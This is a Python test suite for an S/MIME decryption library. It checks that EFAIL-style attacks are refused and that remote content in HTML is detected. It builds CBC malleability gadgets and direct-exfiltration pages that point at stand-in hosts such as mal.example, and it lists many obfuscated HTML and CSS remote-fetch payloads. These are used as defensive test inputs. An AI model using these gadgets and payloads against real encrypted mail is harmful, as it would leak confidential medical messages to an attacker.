"""EFAIL played for real: blocks of CBC moved and made up, parts mixed, GCM passed off as CBC. Nothing leaks, nothing is shown."""

from __future__ import annotations

import base64
import random
from collections import Counter

import pytest
from support.envelopes import (
    AES256_CBC,
    bob,
    bob_key,
    cbc_content,
    content_info,
    encrypt_for,
    envelope_message,
    enveloped,
    refusal,
    structure_of,
)
from support.smime import ENTITY, HandMade, base64_lines, clear_entity, letter, mixed, opaque_entity

from mssante.smime.ber import OCTET_STRING, PRIMITIVE_0, SEQUENCE, Ber, der, der_integer, der_oid
from mssante.smime.cms import ID_DATA, ID_ENVELOPED_DATA
from mssante.smime.decrypt import Opened, open_message, safe_view
from mssante.smime.efail import check_entity, has_remote_content
from mssante.smime.encrypt import encrypt_message
from mssante.smime.envelope import read_envelope
from mssante.smime.framing import algorithm, set_of
from mssante.smime.layer import LayerKind
from mssante.smime.recipients import wrap_for
from mssante.smime.values import Cipher, SmimeCode, SmimeFault, SmimeLimits

CODES = SmimeCode
KEY = b"0123456789abcdef0123456789abcdef"
VECTOR = b"vecteur initial!"
SECRET = b"Le patient suit un traitement."
HTML = b"Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>" + SECRET * 8 + b"</p></body></html>\r\n"
TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + SECRET * 8 + b"\r\n"
MULTI = (b'Content-Type: multipart/alternative; boundary="lim"\r\n\r\n--lim\r\nContent-Type: text/plain\r\n\r\n' + SECRET * 4
         + b"\r\n--lim\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n"
         + base64_lines(b"<p>" + SECRET * 8 + b"</p>") + b"--lim--\r\n")
EXFILTRATION = [b"<img alt='      ", b"' src='http://a/", b"?                "[:16], b"<base href='htt  "[:16], b"p://mal.example/ "[:16], b"'><p title='     "[:16]]


def blocks(octets: bytes) -> list[bytes]:
    return [octets[at:at + 16] for at in range(0, len(octets), 16)]


def carried(ciphertext: bytes, vector: bytes) -> bytes:
    """Give the message that the attacker sends on: same recipient, same wrapped key, another ciphertext."""
    structure = content_info(ID_ENVELOPED_DATA, der_integer(0), set_of([_wrapped()]),
                             der(SEQUENCE, der_oid(ID_DATA), algorithm(AES256_CBC, der(OCTET_STRING, vector)), der(PRIMITIVE_0, ciphertext)))
    return envelope_message(structure)


_WRAPPED: list[bytes] = []


def _wrapped() -> bytes:
    if not _WRAPPED:
        _WRAPPED.append(wrap_for(bob().certificate, KEY, oaep=False))
    return _WRAPPED[0]


def gadget(vector: bytes, first: bytes, known: bytes, wanted: bytes) -> bytes:
    """Give two blocks that open as sixteen octets of noise, then the sixteen wanted (EFAIL §3.1)."""
    made = bytes(a ^ b ^ c for a, b, c in zip(vector, known, wanted.ljust(16)[:16], strict=True))
    return made + first


def shown(message: bytes) -> tuple[str, bytes]:
    """Give (code, what the reader sees): nothing when it stays closed."""
    try:
        opened = safe_view(open_message(message, [bob_key()]), signature_holds=False)
    except SmimeFault as fault:
        return fault.code.value, b""
    return "shown", opened.message


@pytest.mark.parametrize("entity", [HTML, TEXT, MULTI], ids=["html", "text", "multipart"])
@pytest.mark.parametrize("place", ["start", "middle", "end"])
def test_gadgets_that_write_a_page_around_the_secret_leak_nothing(entity: bytes, place: str) -> None:
    """The attacker knows the first block (`Content-Type: te`) and writes what he wants before and after the secret."""
    ciphertext = cbc_content(entity, KEY, VECTOR)
    pieces = blocks(ciphertext)
    made = [gadget(VECTOR, pieces[0], entity[:16], wanted) for wanted in EXFILTRATION]
    at = {"start": 1, "middle": 4, "end": len(pieces) - 2}[place]
    code, view = shown(carried(b"".join([*pieces[:at], *made, VECTOR + pieces[0], *pieces[at:]]), VECTOR))
    assert code in (CODES.UNSAFE.value, CODES.BROKEN.value)
    assert not view


def test_a_whole_page_made_of_gadgets_from_the_first_octet() -> None:
    """The initialisation vector gives the first block for free, without noise: the header itself is the attacker's."""
    ciphertext = cbc_content(TEXT, KEY, VECTOR)
    first = blocks(ciphertext)[0]
    for header in (b"Content-Type: te", b"Content-type:a/b", b"X: y\r\n\r\n<img a='", b"Content-Type: mu", b"\r\n<img src='//a/'"[:16]):
        vector = bytes(a ^ b ^ c for a, b, c in zip(VECTOR, TEXT[:16], header, strict=True))
        page = first + b"".join(gadget(VECTOR, first, TEXT[:16], wanted) for wanted in (b"xt/html\r\n\r\n<i a='", *EXFILTRATION))
        code, view = shown(carried(page + ciphertext, vector))
        assert code in (CODES.UNSAFE.value, CODES.BROKEN.value), header
        assert not view


def test_what_the_vector_alone_can_write_is_no_page() -> None:
    """A flip of the vector makes no noise: sixteen octets of header are the attacker's. What he can turn it into is plain text."""
    entity = b"Content-Type: text/html\r\n\r\n<p>http://www.hopital.example/ " + SECRET + b"</p>"
    ciphertext = cbc_content(entity, KEY, VECTOR)
    assert shown(carried(ciphertext, VECTOR))[0] == "shown"
    link = b"\r\n\r\n<img src=//a/"[:16]
    vector = bytes(a ^ b ^ c for a, b, c in zip(VECTOR, entity[:16], link, strict=True))
    code, view = shown(carried(ciphertext, vector))
    assert code == "shown"
    assert b"Content-Type" not in view.partition(b"\r\n\r\n")[0]  # without a type it is text (RFC 2045 §5.2)
    fetching = b"Content-Type: text/html\r\n\r\n<img src=//a/>" + SECRET
    assert shown(carried(cbc_content(fetching, KEY, VECTOR), VECTOR))[0] == CODES.UNSAFE.value


@pytest.mark.parametrize("entity", [HTML, TEXT, MULTI], ids=["html", "text", "multipart"])
def test_blocks_flipped_moved_repeated_and_dropped(entity: bytes) -> None:
    """Four hundred blind alterations each: refused, or shown without anything that fetches."""
    chance = random.Random(entity)
    ciphertext = cbc_content(entity, KEY, VECTOR)
    seen: Counter[str] = Counter()
    for _ in range(400):
        pieces, vector = blocks(ciphertext), VECTOR
        kind = chance.choice(["flip", "swap", "repeat", "drop", "vector", "cut"])
        at = chance.randrange(len(pieces))
        if kind == "flip":
            octets = bytearray(pieces[at])
            octets[chance.randrange(16)] ^= 1 << chance.randrange(8)
            pieces[at] = bytes(octets)
        elif kind == "swap":
            other = chance.randrange(len(pieces))
            pieces[at], pieces[other] = pieces[other], pieces[at]
        elif kind == "repeat":
            pieces[at:at] = pieces[:chance.randrange(1, 4)]
        elif kind == "drop":
            del pieces[at]
        elif kind == "cut":
            del pieces[at:]
        else:
            octets = bytearray(vector)
            octets[chance.randrange(16)] ^= 1 << chance.randrange(8)
            vector = bytes(octets)
        code, view = shown(carried(b"".join(pieces), vector))
        seen[code] += 1
        if view:
            assert not has_remote_content(view)
    assert set(seen) <= {CODES.UNSAFE.value, CODES.BROKEN.value, "shown"}
    assert seen[CODES.UNSAFE.value] > 100


def test_direct_exfiltration_is_never_opened() -> None:
    """EFAIL §4: the encrypted part between an open tag and its end."""
    inner = encrypt_for(HTML, Cipher.AES256_GCM)
    entity = inner[inner.index(b"Content-Type"):]
    head = b"From: mallory@attaque.example\r\nMIME-Version: 1.0\r\n"
    page = b"Content-Type: text/html\r\n\r\n<img src=\"http://mal.example/"
    closing = b"Content-Type: text/html\r\n\r\n\">"
    cases = [mixed(page, entity, closing), mixed(page, entity, closing, subtype=b"related"), mixed(mixed(page, entity), closing),
             mixed(entity, page, subtype=b"alternative"), mixed(page, b"Content-Type: message/rfc822\r\n\r\n" + inner, closing)]
    for case in cases:
        assert refusal(lambda case=case: open_message(head + case, [bob_key()])) is CODES.UNSAFE


@pytest.mark.parametrize("cipher", [Cipher.AES256_GCM, Cipher.AES128_GCM])
def test_gcm_passed_off_as_cbc(cipher: Cipher) -> None:
    """RFC 9709 §1: the carrier rewrites AuthEnvelopedData as EnvelopedData in CBC, with the same wrapped key."""
    message = encrypt_for(TEXT, cipher)
    envelope = read_envelope(structure_of(message), SmimeLimits())
    content = b"".join(envelope.content)
    oid = {Cipher.AES256_GCM: AES256_CBC, Cipher.AES128_GCM: "2.16.840.1.101.3.4.1.2"}[cipher]
    infos = _recipient_infos(structure_of(message))
    seen: Counter[SmimeCode] = Counter()
    chance = random.Random(7)
    for number in range(400):
        vector = chance.randbytes(16)
        ciphertext = (content + chance.randbytes(16 - len(content) % 16)) if number % 2 else chance.randbytes(16 * chance.randrange(1, 6))
        structure = content_info(ID_ENVELOPED_DATA, der_integer(0), infos,
                                 der(SEQUENCE, der_oid(ID_DATA), algorithm(oid, der(OCTET_STRING, vector)), der(PRIMITIVE_0, ciphertext)))
        seen[refusal(lambda octets=structure: open_message(envelope_message(octets), [bob_key()]))] += 1
        if not number:  # and with the label that was on the message, it is seen at once
            kept = envelope_message(structure, kind=b"authEnveloped-data")
            assert refusal(lambda kept=kept: open_message(kept, [bob_key()])) is CODES.CONFUSED
    assert set(seen) <= {CODES.BROKEN, CODES.UNSAFE}
    assert seen[CODES.BROKEN] > 380


def _recipient_infos(structure: bytes) -> bytes:
    ber = Ber(structure)
    outer = ber.children(ber.whole())
    return ber.raw(ber.children(ber.children(outer[1])[0])[1])


def test_gcm_altered_anywhere_is_refused_and_shows_nothing() -> None:
    message = encrypt_for(HTML, Cipher.AES256_GCM)
    structure = structure_of(message)
    start = structure.index(der_oid(ID_DATA))
    for at in range(start + 30, len(structure), 5):
        octets = bytearray(structure)
        octets[at] ^= 0x40
        code = refusal(lambda octets=octets: open_message(envelope_message(bytes(octets), kind=b"authEnveloped-data"), [bob_key()]))
        assert code in (CODES.BROKEN, CODES.UNREADABLE)


# --- what an unauthenticated content must look like

GOOD = {
    "text": TEXT, "html": HTML, "multipart": MULTI, "no fields": b"\r\ntexte\r\n", "lf": b"Content-Type: text/plain\n\ntexte\n",
    "signed": clear_entity(ENTITY, HandMade().build()), "opaque": opaque_entity(HandMade(attach=True).build()),
    "latin": b"Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\nsant\xe9\r\n",
    "utf8": "Content-Type: text/plain; charset=utf-8\r\n\r\nsanté\r\n".encode(),
    "raw name": 'Content-Type: application/pdf; name="été.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\nAAAA\r\n'.encode(),
    "quoted": b"Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nsant=E9=\r\n\r\n",
    "binary": b"Content-Type: application/zip\r\nContent-Transfer-Encoding: binary\r\n\r\nPK\x03\x04\0\xff",
    "forwarded": b"Content-Type: message/rfc822\r\n\r\n" + letter(),
    "mixed": mixed(TEXT, b"Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n", b"\r\nsans champ\r\n"),
    "iso-2022": b"Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n\x1b$B$3\x1b(B\r\n"}
BAD = {
    "control": TEXT + b"\x01", "nul": TEXT + b"\0", "high": b"Content-Type: text/plain\r\n\r\nsant\xe9 \xff\r\n",
    "seven bits": "Content-Type: text/plain\r\nContent-Transfer-Encoding: 7bit\r\n\r\nsanté\r\n".encode(),
    "base64": b"Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nAA\x80A\r\n",
    "quoted": b"Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nsant\xe9\r\n",
    "encoding": b"Content-Type: text/plain\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nx\r\n",
    "binary text": b"Content-Type: text/html\r\nContent-Transfer-Encoding: binary\r\n\r\n<p>\x02\r\n",
    "part header": mixed(TEXT, b"Content-Type: text/plain\r\nX-\x91\xfe: y\r\n\r\nx\r\n"), "part without end": mixed(TEXT)[:-6],
    "part without empty line": mixed(b"Content-Type: text/plain\r\nContent-Language: fr"),
    "preamble": b'Content-Type: multipart/mixed; boundary="ext"\r\n\r\n\x03\x04\r\n--ext\r\n\r\nx\r\n--ext--\r\n',
    "epilogue": mixed(TEXT) + b"\x05",
    "two types": b"Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\nx\r\n"}
HEADERS = [b"texte sans en-tete", b"Content-Type: text/plain", b"Content-Type: text/plain\r\n", b" pliage\r\nContent-Type: text/plain\r\n\r\nx",
           b"Content-Type: text/plain\r\nbruit\x90\x91\r\n\r\nx", b"Content-Type: text/plain\r\nsans deux points\r\n\r\nx",
           b"Content-Type: text/plain\r\nX: \x01\r\n\r\nx", b"X: \0\r\n\r\nx", b"X: a\rb\r\n\r\nx", b"X: \xe9\r\n\r\nx", b"", b"\0" * 40]


@pytest.mark.parametrize("name", list(GOOD))
def test_good_entities_are_admitted(name: str) -> None:
    check_entity(GOOD[name])
    assert open_message(envelope_message(enveloped(GOOD[name], bob())), [bob_key()])


@pytest.mark.parametrize("name", list(BAD))
def test_noise_is_not_admitted(name: str) -> None:
    assert refusal(lambda: check_entity(BAD[name])) is CODES.UNSAFE
    assert refusal(lambda: open_message(envelope_message(enveloped(BAD[name], bob())), [bob_key()])) is CODES.UNSAFE


@pytest.mark.parametrize("name", [name for name in BAD if name not in ("two types",)])
def test_an_authenticated_content_may_be_untidy(name: str) -> None:
    assert open_message(encrypt_for(BAD[name], Cipher.AES256_GCM), [bob_key()]).authenticated


@pytest.mark.parametrize("entity", HEADERS, ids=range(len(HEADERS)))
def test_contents_that_do_not_begin_with_a_header(entity: bytes) -> None:
    assert refusal(lambda: open_message(envelope_message(enveloped(entity, bob())), [bob_key()])) is CODES.UNSAFE


# --- what fetches

QUIET = ["<p>bonjour", "<p>voir http://www.example.org/ dans le texte", '<img src="cid:un@deux">', "<a href='mailto:a@b.example'>x</a>", "<a href=#bas>x</a>",
         '<img src="data:image/png;base64,AAAA">', '<html xmlns="http://www.w3.org/1999/xhtml"><p>x</html>', "<p style='color:red'>x", "a &lt; b &amp; c",
         "<p title=\"a > b\">x</p>", "<!-- note --><p>x", "1 < 2", "<td background='cid:x'>", "<!DOCTYPE html><p>x"]
LOUD = ['<img src="http://a/">', "<img src=//a/x>", "<IMG\nSRC\n=\n'HTTPS://A/'>", "<img src='logo.png'>", "<a href='https://a/'>x</a>", "<link rel=prefetch href=cid:x>",
        "<base href='x'>", "<meta http-equiv=refresh content='0'>", "<iframe src='cid:x'>", "<script>x</script>", "<form action='cid:x'>", "<video poster=x>",
        "<p style=\"background:url(http://a/)\">", "<p style='background:u\\72l(x)'>", "<style>@import 'x';</style>", "<style>a{b:url( 'x' )}</style>",
        "<p style=\"background:&#117;rl(//a)\">", "<img src=&#104;ttp://a/>", "<img srcset='x 2x'>", "<object data=x>", "<embed src=x>", "<svg><image xlink:href='http://a/'/></svg>",
        "<img src=\"http://a/", "<p title='ouvert", "<td background=\"http://a/\">", "<img src=' \x00cid:x http://a/'>", "<img src=data:text/html,x>", "<a ping=x>", "<body background=x>",
        "<?xml-stylesheet href='x'?>", "<style>@font-face{}</style>", "<img src=`http://a/`>", "<p style='width:expression(x)'>", "<img src='&#x2f;/a'>", "<img src=jav&Tab;ascript:x>"]


def page(text: str, kind: bytes = b"text/html", extra: bytes = b"") -> bytes:
    return b"Content-Type: " + kind + b"\r\n" + extra + b"\r\n" + text.encode() + b"\r\n"


@pytest.mark.parametrize("text", QUIET)
def test_pages_that_stay_at_home(text: str) -> None:
    assert not has_remote_content(page(text))


@pytest.mark.parametrize("text", LOUD)
def test_pages_that_fetch(text: str) -> None:
    assert has_remote_content(page(text))
    assert not has_remote_content(page(text, b"text/plain"))
    encoded = base64.encodebytes(text.encode()).decode().replace("\n", "\r\n")
    assert has_remote_content(mixed(TEXT, page(encoded, extra=b"Content-Transfer-Encoding: base64\r\n")))


@pytest.mark.parametrize("entity", [
    page("<p>x", b"text/html; charset=utf-16"), page("<p>x", b"text/html; charset=utf-7"), b"Content-Type: text/html\r\n\r\n\xff\xfe<\0p\0",
    page("x", b"text/html", b"Content-Transfer-Encoding: x-inconnu\r\n"), b'Content-Type: message/external-body; access-type=url; URL="http://a/"\r\n\r\n\r\n',
    page('<img src="http://a/">', b"image/svg+xml"), page("<img src=x>", b'application/octet-stream; name="a.HTML"'),
    page("<img src=x>", b"application/octet-stream", b"Content-Disposition: attachment; filename=a.svg\r\n"),
    b"Content-Type: message/rfc822\r\n\r\n" + page("<img src=x>"), mixed(TEXT)[:-6], page("@import 'x'", b"text/css")], ids=range(11))
def test_what_cannot_be_looked_into_counts_as_fetching(entity: bytes) -> None:
    assert has_remote_content(entity)


# --- the decision


def view(**given: object) -> Opened:
    return Opened(b"x", "c", "m", "f", **given)  # type: ignore[arg-type]


def test_safe_view() -> None:
    for good, holds in [(view(authenticated=True, remote_content=True), False), (view(authenticated=True, inner=LayerKind.CLEAR_SIGNED), False),
                        (view(), False), (view(remote_content=True), True), (view(inner=LayerKind.OPAQUE_SIGNED, remote_content=True), True)]:
        assert safe_view(good, signature_holds=holds) is good
    for bad in (view(remote_content=True), view(inner=LayerKind.CLEAR_SIGNED), view(inner=LayerKind.OPAQUE_SIGNED), view(inner=LayerKind.ENVELOPED)):
        assert refusal(lambda bad=bad: safe_view(bad, signature_holds=False)) is CODES.UNSAFE


def test_the_whole_way_for_html_with_links() -> None:
    raw = letter(b'<a href="https://www.example.org/">x</a>\r\n', content=b"Content-Type: text/html\r\n")
    closed = open_message(encrypt_message(raw, [bob().certificate], cipher=Cipher.AES256_CBC), [bob_key()])
    assert closed.remote_content
    assert refusal(lambda: safe_view(closed, signature_holds=False)) is CODES.UNSAFE
    shown_one = open_message(encrypt_message(raw, [bob().certificate]), [bob_key()])
    assert safe_view(shown_one, signature_holds=False).message == raw
